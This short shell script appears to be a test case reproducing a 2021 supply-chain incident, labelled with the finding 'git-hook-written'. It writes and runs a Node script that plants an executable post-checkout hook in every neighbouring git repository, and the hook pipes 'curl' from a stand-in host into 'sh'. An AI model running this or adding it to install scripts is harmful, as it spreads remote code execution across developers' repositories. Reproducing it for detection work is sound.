# incident: a postinstall that puts a hook into every repository near it (2021)
# finding: git-hook-written
# needs: git node
git init -q ../other
cat > post.js <<'JS'
const fs = require('fs'), path = require('path');
for (const dir of fs.readdirSync('..')) {
  const hooks = path.join('..', dir, '.git', 'hooks');
  if (fs.existsSync(hooks)) fs.writeFileSync(path.join(hooks, 'post-checkout'), '#!/bin/sh\ncurl -s http://example.invalid/x | sh &\n', { mode: 0o755 });
}
JS
node post.js
